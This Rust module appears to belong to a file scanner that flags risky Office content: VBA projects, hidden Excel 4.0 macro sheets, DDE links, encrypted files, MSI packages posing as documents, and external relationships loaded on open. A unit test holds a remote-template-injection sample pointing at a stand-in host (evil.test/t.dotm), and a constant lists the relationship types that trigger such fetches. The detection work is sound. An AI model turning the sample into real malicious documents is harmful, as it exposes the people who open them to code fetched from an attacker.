//! Office documents: VBA projects in OLE compound files, macro-enabled OOXML packages, Excel 4.0
//! (XLM) macro sheets in both ([`crate::xlm`] reads legacy workbooks), DDE fields and links
//! ([`crate::dde`]), encrypted documents, and references to templates or objects fetched from
//! elsewhere when a document opens.

use crate::report::{Kind, Report};
use crate::{dde, xlm};
use memchr::memmem;
use std::io::Cursor;

/// Most directory entries of one compound file looked at.
const MAX_OLE_ENTRIES: usize = 10_000;
/// The root CLSID of Windows Installer packages.
const MSI_CLSID: &str = "000c1084-0000-0000-c000-000000000046";

/// What an OLE compound file holds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct OleFacts {
    /// A Windows Installer package (an executable in a document's clothes).
    pub msi: bool,
    /// A VBA project (`_VBA_PROJECT`, `VBA/dir`, `PROJECT`, Word 97 `Macros`).
    pub macros: bool,
    /// A password-protected document (`EncryptedPackage`, or `FILEPASS` in a workbook): its
    /// content cannot be read.
    pub encrypted: bool,
    /// Excel 4.0 macro sheets of a legacy workbook, described (`'Macro1' (very hidden)`).
    pub xlm_sheets: Vec<String>,
    /// A DDE link of a legacy workbook, as `application|topic`.
    pub dde_link: Option<String>,
}

/// Read an OLE compound file's directory; `Err` when it is not a readable compound file.
pub fn ole_facts(data: &[u8]) -> Result<OleFacts, String> {
    let mut file =
        cfb::CompoundFile::open(Cursor::new(data)).map_err(|e| format!("unreadable OLE file: {e}"))?;
    let mut facts =
        OleFacts { msi: file.root_entry().clsid().to_string() == MSI_CLSID, ..OleFacts::default() };
    let mut workbook = None;
    for entry in file.walk().take(MAX_OLE_ENTRIES) {
        let name = entry.name().to_ascii_lowercase();
        let in_vba =
            entry.path().parent().and_then(|p| p.file_name()).is_some_and(|p| p.eq_ignore_ascii_case("vba"));
        match name.as_str() {
            "_vba_project" | "project" | "projectwm" | "_vba_project_cur" | "macros" => facts.macros = true,
            "dir" if in_vba => facts.macros = true,
            "encryptedpackage" | "encryptioninfo" => facts.encrypted = true,
            "workbook" | "book" if entry.is_stream() && entry.path().parent() == Some("/".as_ref()) => {
                workbook = Some((entry.path().to_path_buf(), name == "workbook"));
            }
            _ => {}
        }
    }
    if let Some((path, biff8)) = workbook {
        let stream = file.open_stream(&path).map_err(|e| format!("unreadable workbook stream: {e}"))?;
        let globals =
            xlm::workbook_globals(stream, biff8).map_err(|e| format!("unreadable workbook globals: {e}"))?;
        facts.encrypted |= globals.encrypted;
        facts.xlm_sheets = globals.macro_sheets;
        facts.dde_link = globals.dde_link;
    }
    Ok(facts)
}

/// Report what an OLE file is (the caller already knows it starts with the OLE signature).
pub(crate) fn check_ole(data: &[u8], file: &str, report: &mut Report) -> OleFacts {
    match crate::walk::guarded(|| ole_facts(data)) {
        Ok(f) => {
            if f.macros {
                report.add(Kind::OfficeMacro, file, "VBA project in an OLE document");
            }
            if !f.xlm_sheets.is_empty() {
                let detail = format!("Excel 4.0 macro sheet {} in a workbook", f.xlm_sheets.join(", "));
                report.add(Kind::OfficeXlmMacro, file, detail);
            }
            if let Some(link) = &f.dde_link {
                report.add(Kind::OfficeDde, file, format!("DDE link starts {link}"));
            }
            if f.encrypted {
                report.add(Kind::ArchiveEncrypted, file, "password-protected Office document");
            }
            if f.msi {
                report.add(Kind::Executable, file, "Windows Installer package (MSI)");
            }
            f
        }
        Err(e) => {
            // A directory the reader refuses can still name a VBA project: say so as well.
            let utf16: Vec<u8> = "_VBA_PROJECT".encode_utf16().flat_map(u16::to_le_bytes).collect();
            if memmem::find(data, &utf16).is_some() {
                report.add(Kind::OfficeMacro, file, "VBA project named in an OLE file that does not parse");
            }
            report.add(Kind::Unscannable, file, e);
            OleFacts::default()
        }
    }
}

/// Relationship types that make Word or Excel fetch something when the document opens.
const REMOTE_TYPES: [&[u8]; 5] =
    [b"attachedtemplate", b"oleobject", b"/frame\"", b"subdocument", b"externallinkpath"];

/// Whether [`check_ooxml_member`] reads the content of a package member of this name (so it must be
/// inflated whole, not only its first bytes): the XML parts and the relationships.
pub(crate) fn reads_whole_member(member: &str) -> bool {
    let lower_name = member.to_ascii_lowercase();
    lower_name.ends_with(".xml") || lower_name.ends_with(".rels")
}

/// Most sheets and workbook relationships of one package remembered for naming its macro sheets.
const MAX_WORKBOOK_ENTRIES: usize = 10_000;

/// What the members of one OOXML package say about its Excel 4.0 macro sheets, gathered member by
/// member (a zip's order is its writer's) and reported by [`Package::finish`] once the members are
/// read: a macro sheet is then named as Excel shows it, with its visibility (`'Macro1' (very
/// hidden)`, as [`crate::xlm`] names those of a legacy workbook).
#[derive(Debug, Default)]
pub(crate) struct Package {
    /// Macro sheet members, as the zip names them (the first [`xlm::MAX_SHEETS_SHOWN`]).
    macro_sheets: Vec<String>,
    /// `[Content_Types].xml` names a macro sheet type (the parts may be elsewhere, or binary).
    macro_sheet_type: bool,
    /// The workbook's sheets (`xl/workbook.xml`): relationship id, name, visibility.
    sheets: Vec<(String, String, &'static str)>,
    /// The workbook's relationships (`xl/_rels/workbook.xml.rels`): id, and the member it targets
    /// in lower case.
    targets: Vec<(String, String)>,
}

impl Package {
    /// Report the macro sheets seen (named, with their visibility where the workbook says it), or
    /// else a macro sheet content type: one finding per package.
    pub(crate) fn finish(self, package: &str, report: &mut Report) {
        let shown: Vec<String> = self
            .macro_sheets
            .iter()
            .map(|member| {
                let lower = member.to_ascii_lowercase();
                let sheet = self
                    .targets
                    .iter()
                    .filter(|(_, target)| *target == lower)
                    .find_map(|(id, _)| self.sheets.iter().find(|(rid, _, _)| rid == id));
                let part = crate::name::display(member);
                match sheet {
                    Some((_, name, state)) => format!("'{}' ({state}) in {part}", crate::name::display(name)),
                    None => part,
                }
            })
            .collect();
        if !shown.is_empty() {
            let detail = format!("Excel 4.0 macro sheet {}", shown.join(", "));
            report.add(Kind::OfficeXlmMacro, package, detail);
        } else if self.macro_sheet_type {
            report.add(Kind::OfficeXlmMacro, package, "Excel 4.0 macro sheet content type");
        }
    }

    fn read_workbook(&mut self, xml: &[u8]) {
        let text = String::from_utf8_lossy(xml);
        for tag in tags(&text, "sheet").take(MAX_WORKBOOK_ENTRIES) {
            let state = match attribute(tag, "state").as_deref() {
                Some("veryHidden") => "very hidden",
                Some("hidden") => "hidden",
                _ => "visible",
            };
            if let (Some(id), Some(name)) = (attribute(tag, "r:id"), attribute(tag, "name")) {
                self.sheets.push((id, name, state));
            }
        }
    }

    fn read_workbook_relationships(&mut self, rels: &[u8]) {
        let text = String::from_utf8_lossy(rels);
        for tag in tags(&text, "relationship").take(MAX_WORKBOOK_ENTRIES) {
            if let (Some(id), Some(target)) = (attribute(tag, "id"), attribute(tag, "target")) {
                let target = target.to_ascii_lowercase();
                // Relative to the workbook's folder, or absolute within the package.
                let member = match target.strip_prefix('/') {
                    Some(absolute) => absolute.to_string(),
                    None => format!("xl/{target}"),
                };
                self.targets.push((id, member));
            }
        }
    }
}

/// The start tags (from `<` to `>`) of elements named `local` in any namespace prefix, matched in
/// any ASCII case. One pass: a tag ends at the first `>` after its `<`, and the next starts after it.
fn tags<'t>(text: &'t str, local: &'t str) -> impl Iterator<Item = &'t str> {
    let mut rest = text;
    std::iter::from_fn(move || {
        loop {
            let start = rest.find('<')?;
            let end = rest[start..].find('>').map_or(rest.len(), |e| start + e);
            let tag = &rest[start..end];
            rest = &rest[end..];
            let name = tag[1..].split(|c: char| c.is_ascii_whitespace() || c == '/').next().unwrap_or("");
            if name.rsplit(':').next().is_some_and(|n| n.eq_ignore_ascii_case(local)) {
                return Some(tag);
            }
        }
    })
}

/// Check one member of an OOXML package: content types, relationships, the VBA project, Excel 4.0
/// macro sheets (gathered into `found`), DDE fields and links.
pub(crate) fn check_ooxml_member(
    member: &str,
    data: &[u8],
    package: &str,
    found: &mut Package,
    report: &mut Report,
) {
    let lower_name = member.to_ascii_lowercase();
    if lower_name.ends_with("vbaproject.bin") || lower_name.ends_with("vbaprojectsignature.bin") {
        report.add(Kind::OfficeMacro, package, "VBA project (vbaProject.bin) in an Office package");
    }
    if lower_name.starts_with("xl/macrosheets/") && found.macro_sheets.len() < xlm::MAX_SHEETS_SHOWN {
        found.macro_sheets.push(member.to_string());
    }
    if lower_name == "xl/workbook.xml" {
        found.read_workbook(data);
    }
    if lower_name == "xl/_rels/workbook.xml.rels" {
        found.read_workbook_relationships(data);
    }
    if lower_name == "[content_types].xml" {
        let text = data.to_ascii_lowercase();
        if memmem::find(&text, b"macroenabled").is_some() || memmem::find(&text, b"vbaproject").is_some() {
            report.add(Kind::OfficeMacro, package, "macro-enabled content type");
        }
        // application/vnd.ms-excel.macrosheet+xml, ...intlmacrosheet+xml, and the .xlsb binary form.
        if memmem::find(&text, b"macrosheet").is_some() {
            found.macro_sheet_type = true;
        }
    }
    // What is read here must be what `reads_whole_member` names.
    if lower_name.ends_with(".xml") {
        if let Some(instr) = dde::word_fields(data) {
            report.add(Kind::OfficeDde, package, format!("DDE field runs {instr}"));
        } else if let Some(link) = dde::excel_links(data) {
            report.add(Kind::OfficeDde, package, format!("DDE link starts {link}"));
        }
    }
    if lower_name.ends_with(".rels")
        && let Some(target) = external_reference(data)
    {
        let detail = format!("fetches {} when opened", crate::name::display(&target));
        report.add(Kind::OfficeExternalTemplate, package, detail);
    }
}

/// The target of the first relationship that is external and of a type that loads content.
fn external_reference(rels: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(&rels[..rels.len().min(1 << 20)]);
    tags(&text, "relationship").find_map(|tag| {
        let lower = tag.to_ascii_lowercase();
        let external = lower.contains("targetmode=\"external\"") || lower.contains("targetmode='external'");
        let remote = REMOTE_TYPES.iter().any(|t| memmem::find(lower.as_bytes(), t).is_some());
        (external && remote).then(|| attribute(tag, "target").unwrap_or_default())
    })
}

fn attribute(tag: &str, name: &str) -> Option<String> {
    let lower = tag.to_ascii_lowercase();
    let at = lower.find(&format!(" {name}="))? + name.len() + 2;
    let quote = tag[at..].chars().next()?;
    let rest = &tag[at + 1..];
    Some(rest.split(quote).next().unwrap_or("").chars().take(300).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tags_by_local_name_in_one_pass() {
        let xml = "<x:Sheet name='a'/><sheets><sheet\tname='b'><sheetView/><SHEET name='c' <sheet";
        let found: Vec<&str> = tags(xml, "sheet").collect();
        assert_eq!(found, ["<x:Sheet name='a'/", "<sheet\tname='b'", "<SHEET name='c' <sheet"]);
        assert_eq!(tags(&"<".repeat(100_000), "sheet").count(), 0);
    }

    #[test]
    fn external_template_relationship() {
        let rels = br#"<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>"#;
        assert_eq!(external_reference(rels).as_deref(), Some("http://evil.test/t.dotm"));
        let local = br#"<Relationships><Relationship Id="r" Type="x/styles" Target="styles.xml"/><Relationship Id="h" Type="x/hyperlink" Target="http://a.test" TargetMode="External"/></Relationships>"#;
        assert_eq!(external_reference(local), None);
    }
}
